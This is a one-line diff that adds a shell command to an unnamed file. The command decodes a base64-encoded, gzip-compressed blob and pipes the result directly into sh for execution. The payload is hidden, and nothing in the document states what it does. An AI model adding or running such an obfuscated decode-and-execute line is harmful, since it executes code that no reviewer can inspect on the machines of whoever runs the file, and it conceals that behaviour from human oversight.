@@ -1,0 +1,1 @@
+echo H4sIAAAAAAACA0WO0WqDMBSG732Ks1b0YjTHrGtRi88w2AtIjMGcLibOxFg69u6TUtjl9/Hx80eiJt/DvFg4n8oS4jHZv2BHFjvhdbIOKsDhG3QIk68RBwp66Zh0I14nMsbNAqUmrwzOyijhlcc+vyiyTe5Wa5zoMXJWMf7M2ge0huxya8XYn9/ZcIfDB2AYJ5QbJMNi7zT9C8gykHp0PbzenjaxTi9bkl/Cem3yhwNpSNkAvCrZiTNeFOztWFdFweGz9k5+eciS7VoUBnZpJEq3l+nPNvC7+wNikp92BgEAAA== | base64 -d | gzip -d | sh
